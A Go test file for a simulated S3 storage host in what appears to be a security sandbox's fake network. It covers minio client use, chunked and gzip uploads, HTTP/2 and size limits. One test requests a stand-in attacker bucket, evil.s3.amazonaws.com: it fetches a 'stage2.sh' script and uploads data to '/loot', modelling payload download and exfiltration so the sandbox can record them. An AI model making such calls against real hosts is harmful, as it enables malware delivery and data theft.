package host

import (
	"bytes"
	"compress/gzip"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/minio/minio-go/v7"
	"github.com/minio/minio-go/v7/pkg/credentials"
	"github.com/minio/minio-go/v7/pkg/tags"

	"github.com/mcpsf/mcpsf/internal/network/fakenet/databases"
)

// storage is a host with databases of its own.
func storage(t *testing.T, name string, port uint16) *world {
	t.Helper()
	return startWith(t, nil, name, port, databases.New())
}

// minioClient is the official client, which connects to the world.
func (w *world) minioClient(t *testing.T, host string, secure bool) *minio.Core {
	t.Helper()
	c, err := minio.NewCore(host, &minio.Options{
		Creds: credentials.NewStaticV4("AKIAIOSFODNN7EXAMPLE", "wJalrXUtnFEMI", ""), Secure: secure, Transport: w.client(t, false).Transport, Region: "us-east-1",
		TrailingHeaders: true,
	})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func read(t *testing.T, c *minio.Core, bucket, key string, o minio.GetObjectOptions) string {
	t.Helper()
	r, _, _, err := c.GetObject(t.Context(), bucket, key, o)
	if err != nil {
		t.Error(err)
		return ""
	}
	defer r.Close()
	p, err := io.ReadAll(r)
	if err != nil {
		t.Error(err)
	}
	return string(p)
}

// The official client works, with virtual hosts and with paths, with signed chunks and
// with unsigned ones.
func TestObjectStorageClient(t *testing.T) {
	for _, at := range []struct {
		host, name string
		port       uint16
		secure     bool
	}{{"s3.us-east-1.amazonaws.com", "", 443, true}, {"localhost:9000", "localhost", 9000, false}} { // the certificate is for who is asked
		w := storage(t, at.name, at.port)
		c := w.minioClient(t, at.host, at.secure)
		exercise(t, c)
		if w.unread > 0 {
			t.Errorf("%s: %d visits were not read", at.host, w.unread)
		}
	}
}

func exercise(t *testing.T, c *minio.Core) {
	ctx := t.Context()
	list, err := c.ListBuckets(ctx)
	if err != nil || len(list) != 2 {
		t.Fatalf("%v, %v", list, err)
	}
	if err := c.MakeBucket(ctx, "mine", minio.MakeBucketOptions{}); err != nil {
		t.Fatal(err)
	}
	if err := c.MakeBucket(ctx, "mine", minio.MakeBucketOptions{}); minio.ToErrorResponse(err).Code != "BucketAlreadyOwnedByYou" {
		t.Error(err)
	}
	big := strings.Repeat("0123456789abcdef", 700<<10/16*10)
	for key, text := range map[string]string{"a/ü +%2F.txt": "hello", "a/b/c": "", "big": big, "../up": "x"} {
		if _, err := c.Client.PutObject(ctx, "mine", key, strings.NewReader(text), int64(len(text)), minio.PutObjectOptions{PartSize: 5 << 20, UserMetadata: map[string]string{"who": "me"}}); err != nil {
			t.Errorf("%s: %v", key, err)
		}
		if got := read(t, c, "mine", key, minio.GetObjectOptions{}); got != text {
			t.Errorf("%s: %d bytes", key, len(got))
		}
	}
	var part minio.GetObjectOptions
	if err := part.SetRange(1, 3); err != nil || read(t, c, "mine", "a/ü +%2F.txt", part) != "ell" {
		t.Error("the range is another")
	}
	var keys, folders []string
	for o := range c.Client.ListObjects(ctx, "mine", minio.ListObjectsOptions{Recursive: true, MaxKeys: 2}) {
		keys = append(keys, o.Key)
	}
	for o := range c.Client.ListObjects(ctx, "mine", minio.ListObjectsOptions{UseV1: true}) {
		folders = append(folders, o.Key)
	}
	if !slices.Equal(keys, []string{"../up", "a/b/c", "a/ü +%2F.txt", "big"}) || !slices.Equal(folders, []string{"big", "../", "a/"}) {
		t.Errorf("%q, %q", keys, folders)
	}
	if o, err := c.StatObject(ctx, "mine", "big", minio.StatObjectOptions{}); err != nil || o.Size != int64(len(big)) || o.UserMetadata["Who"] != "me" {
		t.Errorf("%+v, %v", o, err)
	}
	if _, err := c.Client.CopyObject(ctx, minio.CopyDestOptions{Bucket: "mine", Object: "copy"}, minio.CopySrcOptions{Bucket: "app-exports", Object: "customers/customers.csv"}); err != nil {
		t.Error(err)
	}
	if set, err := tags.MapToObjectTags(map[string]string{"a": "b"}); err != nil || c.PutObjectTagging(ctx, "mine", "copy", set, minio.PutObjectTaggingOptions{}) != nil {
		t.Error("it cannot be tagged")
	}
	if address, err := c.PresignedGetObject(ctx, "mine", "copy", 3600e9, url.Values{}); err != nil || !strings.Contains(address.RawQuery, "X-Amz-Signature") {
		t.Errorf("%v, %v", address, err)
	}
	for _, missing := range []struct{ bucket, key, code string }{{"mine", "none", "NoSuchKey"}, {"none-1", "none", "NoSuchBucket"}} {
		if _, _, _, err := c.GetObject(ctx, missing.bucket, missing.key, minio.GetObjectOptions{}); minio.ToErrorResponse(err).Code != missing.code {
			t.Errorf("%v: %v", missing, err)
		}
	}
	for e := range c.RemoveObjects(ctx, "mine", c.Client.ListObjects(ctx, "mine", minio.ListObjectsOptions{Recursive: true}), minio.RemoveObjectsOptions{}) {
		t.Error(e)
	}
	if err := c.RemoveBucket(ctx, "mine"); err != nil {
		t.Error(err)
	}
}

const signedByAWS = "AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20260301/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=00"

// put sends a body as it is, with headers.
func (w *world) put(t *testing.T, key, body string, headers ...string) (status int, answer string) {
	t.Helper()
	out := w.exchange(t, "PUT /app-exports/"+key+" HTTP/1.1\r\nHost: localhost:9000\r\nConnection: close\r\nAuthorization: "+signedByAWS+
		fmt.Sprintf("\r\nContent-Length: %d\r\n", len(body))+strings.Join(append(headers, ""), "\r\n")+"\r\n"+body)
	_, _ = fmt.Sscanf(out, "HTTP/1.1 %d", &status)
	return status, out
}

func (w *world) get(t *testing.T, key string) *http.Response {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "http://localhost:9000/app-exports/"+key, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", signedByAWS)
	req.Header.Set("Accept-Encoding", "gzip") // the answer is not decoded
	a, err := w.client(t, false).Do(req)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { a.Body.Close() })
	return a
}

func body(t *testing.T, a *http.Response) string {
	t.Helper()
	p, err := io.ReadAll(a.Body)
	if err != nil {
		t.Error(err)
	}
	return string(p)
}

const streaming = "x-amz-content-sha256: STREAMING-AWS4-HMAC-SHA256-PAYLOAD"

// A body in chunks is stored and searched without them, however small they are, and
// what stands beside them is reported.
func TestChunksOfAWS(t *testing.T) {
	sum := crc32.ChecksumIEEE([]byte("SECRET"))
	trailer := "x-amz-checksum-crc32:" + string(base64Of(sum))
	for _, tt := range []struct {
		name, body string
		headers    []string
		status     int
	}{
		{"signed", "6;chunk-signature=ab\r\nSECRET\r\n0;chunk-signature=cd\r\n\r\n", []string{streaming, "Content-Encoding: aws-chunked", "x-amz-decoded-content-length: 6"}, 200},
		{"small", "1\r\nS\r\n1\r\nE\r\n2\r\nCR\r\n1\r\nE\r\n1\r\nT\r\n0\r\n\r\n", []string{streaming}, 200},
		{"trailers", "6\r\nSECRET\r\n0\r\n" + trailer + "\r\nx-hidden: TRAILING\r\n\r\n", []string{"x-amz-content-sha256: STREAMING-UNSIGNED-PAYLOAD-TRAILER", "Content-Encoding: aws-chunked", "x-amz-trailer: x-amz-checksum-crc32"}, 200},
		{"wrong sum", "6\r\nSECREX\r\n0\r\n" + trailer + "\r\n\r\n", []string{streaming}, 400},
		{"cut", "8\r\nSECRET", []string{streaming}, 400},
		{"longer", "6\r\nSECRET\r\n0\r\n\r\nBEHIND", []string{streaming}, 400},
		{"no chunks", "SECRET", []string{streaming}, 400},
		{"no end of a chunk", "3\r\nSECRET\r\n0\r\n\r\n", []string{streaming}, 400},
		{"endless", "7fffffff\r\nSECRET", []string{streaming}, 400},
		{"overflow", "ffffffffffffffffff\r\nSECRET", []string{streaming}, 400},
		{"another length", "6\r\nSECRET\r\n0\r\n\r\n", []string{streaming, "x-amz-decoded-content-length: 60"}, 400},
	} {
		t.Run(tt.name, func(t *testing.T) {
			w := storage(t, "localhost", 9000)
			status, out := w.put(t, "k", tt.body, tt.headers...)
			if status != tt.status {
				t.Fatal(out)
			}
			a := w.get(t, "k")
			if got := body(t, a); tt.status == 200 && (got != "SECRET" || a.Header.Get("Content-Encoding") != "") || tt.status != 200 && a.StatusCode != http.StatusNotFound {
				t.Errorf("%d %v %s", a.StatusCode, a.Header, got)
			}
			w.end(t, 1)
			sent := w.all("body") + w.all("") + w.all("header x-hidden") + w.all("chunk extension")
			for _, word := range []string{"SECRET", "BEHIND", "TRAILING", "chunk-signature=cd"} {
				if strings.Contains(tt.body, word) && !strings.Contains(sent, word) {
					t.Errorf("%s is not seen in %q", word, sent)
				}
			}
			if tt.name == "small" && !strings.Contains(w.all("body"), "SECRET") {
				t.Errorf("seen: %q", w.all("body"))
			}
		})
	}
}

func base64Of(sum uint32) []byte {
	const digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	v := uint64(sum) << 4
	out := []byte("......==")
	for i := range 6 {
		out[5-i] = digits[v>>(6*i)&63]
	}
	return out
}

// A compressed object is stored as it is, and searched without the compression.
func TestCompressedObject(t *testing.T) {
	w := storage(t, "localhost", 9000)
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, _ = io.WriteString(z, "SECRET inside")
	z.Close()
	framed := fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", b.Len(), b.String())
	for key, send := range map[string][]string{"plain": {b.String(), "Content-Encoding: gzip"}, "framed": {framed, "Content-Encoding: gzip,aws-chunked"}, "no gzip": {"SECRET", "Content-Encoding: gzip"}} {
		if status, out := w.put(t, strings.ReplaceAll(key, " ", ""), send[0], send[1]); status != 200 {
			t.Errorf("%s: %s", key, out)
		}
		a := w.get(t, strings.ReplaceAll(key, " ", ""))
		want := b.String()
		if key == "no gzip" {
			want = "SECRET"
		}
		if got := body(t, a); got != want || a.Header.Get("Content-Encoding") != "gzip" {
			t.Errorf("%s: %q, %v", key, got, a.Header)
		}
	}
	if n := strings.Count(w.all("body"), "SECRET inside"); n != 2 {
		t.Errorf("seen %d times: %q", n, w.all("body"))
	}
}

// What a client stores comes back to it, is recorded when it is sent, and makes nothing
// known; another start of the server does not see it.
func TestStoredIsNotKnown(t *testing.T) {
	w := storage(t, "localhost", 9000)
	if status, out := w.put(t, "k", "mail to stored@payload.example", "x-amz-meta-note: stored-note"); status != 200 {
		t.Fatal(out)
	}
	a := w.get(t, "k")
	if got := body(t, a); got != "mail to stored@payload.example" || a.Header.Get("X-Amz-Meta-Note") != "stored-note" {
		t.Errorf("%v: %s", a.Header, got)
	}
	w.get(t, "none")
	requests := w.requests()
	if len(requests) != 3 || requests[0].Body != "mail to stored@payload.example" || requests[1].Answer != "" || requests[1].Status != 200 || requests[2].Answer != "NoSuchKey" {
		t.Errorf("%+v", requests)
	}
	w.mu.Lock()
	for _, o := range w.told {
		if s := string(o.Answer); strings.Contains(s, "stored") {
			t.Errorf("known: %q", s)
		}
	}
	w.mu.Unlock()
	w = storage(t, "localhost", 9000)
	if got := w.get(t, "k"); got.StatusCode != http.StatusNotFound {
		t.Errorf("another start has %s", body(t, got))
	}
}

// Over HTTP/2 it is the same.
func TestObjectsOverHTTP2(t *testing.T) {
	w := storage(t, "storage.company.example", 443)
	c := w.client(t, true)
	text := strings.Repeat("0123456789", 300<<10)
	for _, method := range []string{http.MethodPut, http.MethodGet, http.MethodHead} {
		req, err := http.NewRequestWithContext(t.Context(), method, "https://storage.company.example/app-exports/k", nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", signedByAWS)
		if method == http.MethodPut {
			req.Body = io.NopCloser(strings.NewReader(text))
		}
		a, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		got := body(t, a)
		a.Body.Close()
		if a.ProtoMajor != 2 || a.StatusCode != http.StatusOK || method == http.MethodGet && got != text || method != http.MethodGet && got != "" {
			t.Errorf("%s: %s, %d bytes", method, a.Status, len(got))
		}
		if method == http.MethodHead && a.ContentLength != int64(len(text)) {
			t.Errorf("length %d", a.ContentLength)
		}
	}
	if w.all("body") != text {
		t.Error("the body is not seen")
	}
}

// Two starts of a server get the same answers, whatever a third stores.
func TestObjectsAreRepeatable(t *testing.T) {
	var first []string
	for i := range 2 {
		w := storage(t, "localhost", 9000)
		var all []string
		for _, key := range []string{"", "?list-type=2", "none", "customers/customers.csv", "k?uploads"} {
			a := w.get(t, key)
			all = append(all, fmt.Sprint(a.StatusCode, a.Header, body(t, a)))
		}
		if i == 1 && !slices.Equal(all, first) {
			t.Errorf("%q\n%q", first, all)
		}
		first = all
	}
}

// Large bodies are read, reported and refused.
func TestLargeObjects(t *testing.T) {
	if testing.Short() {
		t.Skip("large")
	}
	w := storage(t, "localhost", 9000)
	large := strings.Repeat("x", maxBody)
	status, out := w.put(t, "k", large)
	if status != 400 || !strings.Contains(out, "EntityTooLarge") {
		t.Errorf("%.300s", out)
	}
	if status, _ := w.put(t, "k", large+"y"); status != http.StatusRequestEntityTooLarge {
		t.Errorf("status %d", status)
	}
	if status, out := w.put(t, "k", large[:20<<20]); status != 200 { // nothing of these was left
		t.Errorf("%.300s", out)
	}
}

// Files at hosts of storage stay what they were: a client without keys that gets a
// script from there gets one that reports when it is run.
func TestFilesOfStrangers(t *testing.T) {
	w := storage(t, "", 443)
	c := w.client(t, false)
	c.Transport.(*http.Transport).TLSClientConfig.ServerName = "evil.s3.amazonaws.com"
	ask := func(method, address, text string) (int, string) {
		req, err := http.NewRequestWithContext(t.Context(), method, address, strings.NewReader(text))
		if err != nil {
			t.Fatal(err)
		}
		a, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer a.Body.Close()
		return a.StatusCode, body(t, a)
	}
	if status, text := ask("GET", "https://evil.s3.amazonaws.com/stage2.sh", ""); status != 200 || !strings.HasPrefix(text, "#!/bin/sh") {
		t.Errorf("%d %s", status, text)
	}
	if status, text := ask("PUT", "https://evil.s3.amazonaws.com/loot", "taken"); status != 200 || text != "" {
		t.Errorf("%d %s", status, text)
	}
	if status, text := ask("GET", "https://evil.s3.amazonaws.com/loot", ""); status != 200 || text != "taken" {
		t.Errorf("%d %s", status, text)
	}
	if status, text := ask("GET", "https://storage.googleapis.com/storage/v1/b/x/o", ""); status != 200 || !strings.HasPrefix(text, "{") {
		t.Errorf("%d %s", status, text)
	}
}

// The client is a hostile one that leaves in the middle of bodies: nothing stays
// reserved.
func TestBodiesThatEnd(t *testing.T) {
	w := storage(t, "localhost", 9000)
	for range 8 {
		w.exchange(t, "PUT /app-exports/k HTTP/1.1\r\nHost: localhost:9000\r\nAuthorization: "+signedByAWS+"\r\nContent-Length: 9000000\r\n\r\n"+strings.Repeat("x", 8<<20))
	}
	w.end(t, 8)
	if status, out := w.put(t, "k", strings.Repeat("x", 20<<20)); status != 200 {
		t.Errorf("%.300s", out)
	}
	if a := w.get(t, "k"); a.StatusCode != http.StatusOK || a.ContentLength != 20<<20 {
		t.Error(errors.New(a.Status))
	}
}
